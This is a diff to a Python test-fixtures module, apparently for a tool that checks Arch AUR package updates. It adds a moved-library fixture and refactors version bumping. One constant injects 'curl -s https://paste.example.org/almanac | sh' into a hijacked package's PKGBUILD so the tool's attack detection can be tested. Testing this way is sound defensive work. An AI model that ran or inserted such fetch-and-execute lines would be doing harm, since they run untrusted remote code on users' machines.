@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import shlex
 import shutil
 from dataclasses import dataclass
 from pathlib import Path
@@ -29,6 +30,11 @@ HIJACKED = "almanac"
 _ATTACKED_VERSION = "1.1"
 _FUNCTION = "package() {\n"
 _ATTACK = f"{_FUNCTION}  curl -s https://paste.example.org/almanac | sh\n"
+
+# A library that gets another soname in its next version, and the program that needs it.
+LIBRARY, NEEDS_LIBRARY = "libtide", "tide-today"
+_LIBRARY_VERSION = "2.0"
+_LIBRARY_ROOT = "_root=''"
 
 # What the -git package names as its source; the repository is made when it is needed.
 _UPSTREAM_URL = "file:///srv/upstream/plumbline.git"
@@ -69,29 +75,45 @@ class Fixtures:
 
     def place_update(self, into: Path) -> Path:
         """Copy the package whose update is harmless, in its new version; return its folder."""
-        return self._updated(FROM_AUR, _VERSION, NEW_VERSION, into)
+        target = into / FROM_AUR
+        shutil.copytree(self.pkgbuilds / FROM_AUR, target)
+        for file in _NAMES_UPSTREAM:
+            _replace_in(target / file, _VERSION, NEW_VERSION)
+        return target
 
     def place_attack(self, into: Path) -> Path:
         """Copy the package whose update is an attack, as that is; return its folder."""
-        target = self._updated(HIJACKED, "pkgver=1.0", f"pkgver={_ATTACKED_VERSION}", into)
-        _replace_in(target / ".SRCINFO", "pkgver = 1.0", f"pkgver = {_ATTACKED_VERSION}")
+        target = self._with_pkgver(HIJACKED, _ATTACKED_VERSION, into)
         _replace_in(target / "PKGBUILD", _FUNCTION, _ATTACK)
         return target
 
-    def _updated(self, name: str, old: str, new: str, into: Path) -> Path:
+    def place_moved_library(self, into: Path) -> Path:
+        """Copy the library with its next soname over what is there; return its folder."""
+        return self._with_pkgver(LIBRARY, _LIBRARY_VERSION, into)
+
+    def _with_pkgver(self, name: str, version: str, into: Path) -> Path:
+        """Copy a package of version 1.0 as another version."""
         target = into / name
-        shutil.copytree(self.pkgbuilds / name, target)
-        for file in _NAMES_UPSTREAM:
-            _replace_in(target / file, old, new)
+        shutil.copytree(self.pkgbuilds / name, target, dirs_exist_ok=True)
+        _replace_in(target / "PKGBUILD", "pkgver=1.0", f"pkgver={version}")
+        _replace_in(target / ".SRCINFO", "pkgver = 1.0", f"pkgver = {version}")
         return target
 
-    def place(self, names: Iterable[str], into: Path, *, upstream_url: str) -> None:
-        """Copy package folders; the source of the -git package becomes `upstream_url`."""
+    def place(
+        self, names: Iterable[str], into: Path, *, upstream_url: str, library_root: str = ""
+    ) -> None:
+        """Copy package folders; the source of the -git package becomes `upstream_url`.
+
+        `library_root` is below which folder the library is installed.
+        """
         for name in names:
             target = into / name
             shutil.copytree(self.pkgbuilds / name, target)
             for file in _NAMES_UPSTREAM:
                 _replace_in(target / file, _UPSTREAM_URL, upstream_url)
+            if name == NEEDS_LIBRARY:
+                chosen = f"_root={shlex.quote(library_root)}"
+                _replace_in(target / "PKGBUILD", _LIBRARY_ROOT, chosen)
             if name in {FROM_AUR, HIJACKED}:
                 (target / ".CI").mkdir()
                 config = target / ".CI" / "config"
